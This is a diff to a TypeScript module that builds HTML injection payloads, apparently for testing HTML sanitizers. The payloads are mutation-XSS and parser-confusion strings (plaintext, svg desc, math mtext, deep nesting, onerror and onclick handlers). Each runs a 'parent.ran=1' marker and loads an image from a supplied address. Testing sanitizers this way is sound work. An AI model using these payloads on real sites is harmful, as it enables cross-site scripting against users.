@@ -4,7 +4,7 @@
  */
 import { addresses } from './addresses.ts'
 import { handlers } from './handlers.ts'
-import { clobberings, nestings } from './nestings.ts'
+import { clobberings, flattened, nestings } from './nestings.ts'
 
 /** What a payload runs, when it can: no quotes and no blanks, so that it fits wherever it is put. */
 export const RUN = 'parent.ran=1'
@@ -14,10 +14,11 @@ export const payloads = (address: string): string[] => [
   ...new Set([...handlers(RUN), ...addresses(RUN, address), ...nestings(RUN), ...clobberings(RUN)])
 ]
 
-/** These take in everything behind them, whatever is written there: each has to stand alone. */
+/** These take in everything behind them, or are as long as a description may be: each has to stand alone. */
 export const greedy = (address: string): string[] => {
   const bite = `<img src=x: onerror=${RUN}><img src="${address}">`
   return [
+    ...flattened(RUN),
     `<plaintext>${bite}`,
     `<svg><desc><plaintext>${bite}</desc></svg>${bite}`,
     `<math><mtext><plaintext>${bite}</plaintext></mtext></math>`,
@@ -26,7 +27,7 @@ export const greedy = (address: string): string[] => {
     `${'<div>'.repeat(2000)}${bite}`,
     `${'<svg><desc>'.repeat(700)}<style><img title="</style>${bite}">`,
     `${'<table><tr><td>'.repeat(500)}<math><mtext>${bite}`,
-    `<p ${Array.from({ length: 3000 }, (_, at) => `a${at}=1`).join(' ')} onclick=${RUN}>${bite}`
+    `<p ${Array.from({ length: 90 }, (_, at) => `a${at}=1`).join(' ')} onclick=${RUN}>${bite}`
   ]
 }
 
